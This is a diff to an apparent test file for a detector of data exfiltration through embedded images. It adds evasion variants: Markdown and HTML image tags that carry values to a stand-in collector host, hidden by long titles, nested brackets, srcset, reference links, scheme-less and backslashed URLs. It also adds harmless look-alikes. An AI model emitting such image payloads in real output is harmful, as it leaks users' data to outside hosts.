@@ -97,6 +97,12 @@ CARRYING = {
     "behind more than is read": f"![]({HOST}/{'x' * 5_000}?d=440012349876)",
     "behind many others": "".join(f"![]({HOST}/{number})" for number in range(300)) + f"![]({HOST}/?d=440012349876)",
     "as HTML": f'<img alt="x" src="{HOST}/p.png?name=wetherby">',
+    "with a long title": f"![{'y' * 600}]({HOST}/p.png?d=440012349876)",
+    "with brackets and a line end in its title": f"![a [b]\nc]({HOST}/p.png?d=440012349876)",
+    "as another source": f'<img alt="a > b" srcset="{HOST}/p.png?name=wetherby 2x">',
+    "by a reference in a quotation": f"![x][r]\n\n> [r]: {HOST}/p.png?name=wetherby",
+    "without a scheme": "![x](//collector.example/p.png?d=440012349876)",
+    "with backslashes": r'<img src="https:\\collector.example\p.png?name=wetherby">',
 }
 
 
@@ -111,6 +117,8 @@ HARMLESS = {
     "a link to click on": "Look at https://example.org/search?q=Philomena+Wetherby",
     "a picture of its own": f"![a cat]({HOST}/cats/1.png?w=640&h=480)",
     "no address": "![diagram](diagram.png)",
+    "a link beside a picture": f"![a [cat]](cat.png) and [more]({HOST}/?q=Philomena+Wetherby)",
+    "a program": f'<script src="{HOST}/philomena-wetherby/0.js"></script> #![allow(x)]',
     "no picture": "An image is written ![alt](address).",
     "a broken address": "![x](https://[::1/p.png)",
 }
